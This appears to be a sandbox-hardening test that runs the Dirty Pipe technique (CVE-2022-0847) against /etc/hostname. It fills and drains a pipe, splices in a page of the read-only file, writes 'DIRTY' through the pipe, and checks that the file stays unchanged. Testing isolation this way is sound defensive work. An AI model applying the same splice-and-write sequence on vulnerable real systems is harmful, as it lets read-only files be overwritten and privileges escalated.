# Group: kernel
# Tries: write to a file that one may only read, by a pipe whose pages are the file's.
# Idea: CVE-2022-0847 ("Dirty Pipe"), here against a file that is this sandbox's own.
# Outcome: the file stays.
import ctypes
import os

from attack import check, libc

PATH = "/etc/hostname"
with open(PATH, "rb") as file:
    before = file.read()
reader, writer = os.pipe()
size = 65536
os.write(writer, bytes(size))
os.read(reader, size)
source = os.open(PATH, os.O_RDONLY)
offset = ctypes.c_longlong(0)
moved = libc.splice(source, ctypes.byref(offset), writer, None, ctypes.c_size_t(1), 0)
check("a page of the file in the pipe", moved == 1, moved)
os.write(writer, b"DIRTY")
os.close(source)
with open(PATH, "rb") as file:
    after = file.read()
check("the file is as before", before == after, after)
